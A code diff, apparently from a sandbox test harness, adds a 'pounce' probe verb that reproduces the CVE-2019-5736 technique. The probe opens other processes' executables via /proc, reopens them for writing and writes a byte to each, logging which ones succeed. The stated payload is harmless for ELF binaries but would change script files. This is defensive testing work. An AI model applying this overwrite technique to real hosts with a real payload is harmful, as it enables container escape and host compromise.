@@ -9,20 +9,23 @@
 //! | `die N` | ends by signal N |
 //! | `fork-wait FILE` | leaves a child that ignores signals, writes its pid to FILE, then waits |
 //! | `hook FILE LABEL [STATUS [SECONDS]]` | appends a [`HookVisit`] to FILE; sleeps; exits |
+//! | `pounce FILE` | grabs other processes' programs, appends to FILE what it can write to |
 //! | `swap A B` | exchanges two names again and again, until it is killed |
 
 mod observation;
 mod see;
 
 use std::collections::BTreeMap;
-use std::fs::{File, OpenOptions};
+use std::fs::{self, File, OpenOptions};
 use std::io::{self, Read, Write};
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::{FileExt, MetadataExt};
 use std::process::ExitCode;
 use std::time::Duration;
 
 use serde::{Deserialize, Serialize};
 
-pub use observation::{Answer, FileStatus, Mount, Observation};
+pub use observation::{FileStatus, Mount, Observation};
 pub use see::CAPABILITIES;
 
 use crate::sys;
@@ -50,6 +53,7 @@ pub fn main(arguments: &[String]) -> ExitCode {
         ["die", signal] => die(signal),
         ["fork-wait", file] => fork_wait(file),
         ["hook", file, label, rest @ ..] => return hook(file, label, rest),
+        ["pounce", file] => pounce(file),
         ["swap", one, other] => swap(one, other),
         _ => Err(io::Error::other(format!(
             "no such verb: probe {}",
@@ -114,7 +118,7 @@ fn die(signal: &str) -> io::Result<()> {
 fn fork_wait(file: &str) -> io::Result<()> {
     sys::block_signals()?;
     let child = sys::fork_sleeper()?;
-    std::fs::write(file, format!("{child}\n"))?;
+    fs::write(file, format!("{child}\n"))?;
     wait(None)
 }
 
@@ -142,6 +146,35 @@ fn swap(one: &str, other: &str) -> io::Result<()> {
     use rustix::fs::{CWD, RenameFlags, renameat_with};
     loop {
         renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE)?;
+    }
+}
+
+/// What CVE-2019-5736 does, with a harmless payload: an executable's own first byte.
+fn pounce(file: &str) -> io::Result<()> {
+    let own = fs::metadata("/proc/self/exe")?.ino();
+    let mut held: Vec<File> = Vec::new();
+    File::create(file)?;
+    loop {
+        for process in fs::read_dir("/proc")?.flatten() {
+            if let Ok(program) = File::open(process.path().join("exe"))
+                && program.metadata().is_ok_and(|found| found.ino() != own)
+                && held.len() < 64
+            {
+                held.push(program);
+            }
+        }
+        for program in &held {
+            let path = format!("/proc/self/fd/{}", program.as_raw_fd());
+            let writable = OpenOptions::new().write(true).open(&path);
+            if writable.is_ok_and(|writable| writable.write_at(b"\x7f", 0).is_ok()) {
+                let name = fs::read_link(&path)?;
+                let line = format!("{}\n", name.display());
+                OpenOptions::new()
+                    .append(true)
+                    .open(file)?
+                    .write_all(line.as_bytes())?;
+            }
+        }
     }
 }
 
